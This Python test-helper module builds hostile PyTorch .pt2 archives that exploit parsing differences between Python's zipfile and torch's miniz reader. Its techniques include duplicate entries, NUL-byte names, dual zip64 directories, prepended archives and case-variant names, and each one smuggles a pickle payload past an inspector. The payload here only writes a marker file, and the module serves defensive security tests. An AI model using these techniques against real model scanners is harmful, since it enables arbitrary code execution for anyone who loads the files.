"""Hostile ``.pt2`` archives: a real ``torch.export`` archive rebuilt so that Python's zipfile
(faithcam's inspector) and miniz (``torch.export.load``) read different files.

Each builder checks that its differential is real (torch's reader and Python's disagree on the
weights config) before returning, so a test that passes because the attack is broken cannot
happen silently. The payload only writes a marker file.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path

import torch

from tests.guarantees.test_security import _Payload
from tests.helpers import GapLinearNet

Entry = tuple[bytes, bytes]  # (name, data)
CONFIG = b"plain/data/weights/model_weights_config.json"


def plain_entries(folder: Path) -> list[Entry]:
    """The entries of ``torch.export.save`` of a small CAM model, root folder ``plain``."""
    torch.manual_seed(0)
    program = torch.export.export(GapLinearNet().eval(), (torch.rand(1, 3, 16, 16),))
    path = folder / "plain.pt2"
    torch.export.save(program, path)
    with zipfile.ZipFile(path) as archive:
        return [(i.filename.encode(), archive.read(i)) for i in archive.infolist()]


def malicious_entries(entries: Sequence[Entry], marker: Path) -> list[Entry]:
    """The same archive whose ``fc.bias`` is a pickle that writes ``marker`` when loaded."""
    config = json.loads(dict(entries)[CONFIG])
    meta = config["config"]["fc.bias"]
    meta["use_pickle"] = True
    bias = CONFIG.rsplit(b"/", 1)[0] + b"/" + meta["path_name"].encode()
    buffer = io.BytesIO()
    torch.save(_Payload(marker), buffer)
    replaced = {CONFIG: json.dumps(config).encode(), bias: buffer.getvalue()}
    return [(name, replaced.get(name, data)) for name, data in entries]


def _local(name: bytes, data: bytes, flags: int = 0) -> bytes:
    crc = zlib.crc32(data)
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0, crc, len(data), len(data),
                       len(name), 0)  # fmt: skip
    return head + name + data


def _central(name: bytes, data: bytes, offset: int) -> bytes:
    crc = zlib.crc32(data)
    head = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, len(data),
                       len(data), len(name), 0, 0, 0, 0, 0, offset)  # fmt: skip
    return head + name


def _eocd(count: int, size: int, offset: int, comment: bytes = b"") -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, len(comment))


def zip_bytes(entries: Sequence[Entry], prefix: bytes = b"", central_names=None) -> bytes:
    """A stored zip of ``entries`` after ``prefix`` (offsets absolute); ``central_names``
    replaces the names in the central directory only."""
    body, central = bytearray(prefix), bytearray()
    names = central_names or [name for name, _ in entries]
    for (name, data), listed in zip(entries, names, strict=True):
        central += _central(listed, data, len(body))
        body += _local(name, data)
    return bytes(body + central + _eocd(len(entries), len(central), len(body)))


def _sections(entries: Sequence[Entry], start: int) -> tuple[bytes, bytes]:
    """(local entries, central directory) of ``entries`` placed at byte ``start``."""
    body, central = bytearray(), bytearray()
    for name, data in entries:
        central += _central(name, data, start + len(body))
        body += _local(name, data)
    return bytes(body), bytes(central)


def torch_sees_pickle(data: bytes) -> bool:
    """Whether torch's zip reader gets the malicious weights config from ``data``."""
    reader = torch._C.PyTorchFileReader(io.BytesIO(data))
    config = json.loads(reader.get_record(CONFIG.split(b"/", 1)[1].decode()))
    return bool(config["config"]["fc.bias"]["use_pickle"])


def python_sees_pickle(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        config = json.loads(archive.read(CONFIG.decode()))
    return bool(config["config"]["fc.bias"]["use_pickle"])


def _differential(data: bytes) -> bool:
    try:
        return torch_sees_pickle(data) and not python_sees_pickle(data)
    except Exception:
        return False


def duplicate_malicious_first(folder: Path, marker: Path) -> bytes:
    """Two entries named like the weights config, the malicious one first: Python's zipfile
    keeps the last, miniz's sorted lookup finds the first (at some positions: searched)."""
    plain = plain_entries(folder)
    evil = dict(malicious_entries(plain, marker))
    others = [(n, evil[n] if n != CONFIG else d) for n, d in plain if n != CONFIG]
    for position in range(len(others) + 1):
        entries = [*others[:position], (CONFIG, evil[CONFIG]), (CONFIG, dict(plain)[CONFIG])]
        data = zip_bytes([*entries, *others[position:]])
        if _differential(data):
            return data
    raise AssertionError("no position makes torch and Python read different duplicates")


def null_byte_name(folder: Path, marker: Path) -> bytes:
    """The benign config under ``name + NUL``: Python cuts the name at the NUL (so it reads the
    benign one as *the* config), miniz looks the exact name up (the malicious one)."""
    plain = plain_entries(folder)
    evil = dict(malicious_entries(plain, marker))
    entries = [(n, evil[n]) for n, _ in plain] + [(CONFIG + b"\x00", dict(plain)[CONFIG])]
    data = zip_bytes(entries)
    assert _differential(data), "the NUL-name differential did not hold"
    return data


def zip64_two_directories(folder: Path, marker: Path) -> bytes:
    """A polyglot with two central directories: Python reads the zip64 end record right before
    the locator (benign directory), miniz the one the locator points at (malicious)."""
    plain = plain_entries(folder)
    evil = malicious_entries(plain, marker)
    body_a, central_a = _sections(plain, 0)
    body_b, central_b = _sections(evil, len(body_a))
    data = bytearray(body_a + body_b)
    record_b = len(data) + len(central_b)
    data += central_b + _zip64_record(len(evil), len(central_b), len(body_a) + len(body_b))
    central_a_start = len(data)
    data += central_a + _zip64_record(len(plain), len(central_a), central_a_start)
    data += struct.pack("<IIQI", 0x07064B50, 0, record_b, 1)
    data += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    assert _differential(bytes(data)), "the zip64 differential did not hold"
    return bytes(data)


def _zip64_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)


def prepended_archive(folder: Path, marker: Path) -> bytes:
    """The malicious archive, then the benign one whose offsets count from its own start:
    Python re-bases them past the prepended bytes; a reader taking them as absolute does not."""
    plain = plain_entries(folder)
    evil = zip_bytes(malicious_entries(plain, marker))
    benign = zip_bytes(plain)
    return evil + benign


def two_end_records(folder: Path, marker: Path) -> bytes:
    """Two archives back to back, each with its end-of-central-directory record."""
    plain = plain_entries(folder)
    first = zip_bytes(malicious_entries(plain, marker))
    return first + _rebased(plain, len(first))


def _rebased(entries: Sequence[Entry], start: int) -> bytes:
    body, central = _sections(entries, start)
    return body + central + _eocd(len(entries), len(central), start + len(body))


def local_name_mismatch(folder: Path, marker: Path) -> bytes:
    """The central directory names the benign config; the local header carries another name."""
    plain = plain_entries(folder)
    names = [n for n, _ in plain]
    locals_ = [(n if n != CONFIG else CONFIG.replace(b"model_", b"other_"), d) for n, d in plain]
    return zip_bytes(locals_, central_names=names)


def case_variant_duplicate(folder: Path, marker: Path) -> bytes:
    """The malicious config under the same name in upper case: miniz compares names ignoring
    case."""
    plain = plain_entries(folder)
    evil = dict(malicious_entries(plain, marker))
    upper = CONFIG.replace(b"model_weights", b"MODEL_weights")
    return zip_bytes([(upper, evil[CONFIG]), *plain])
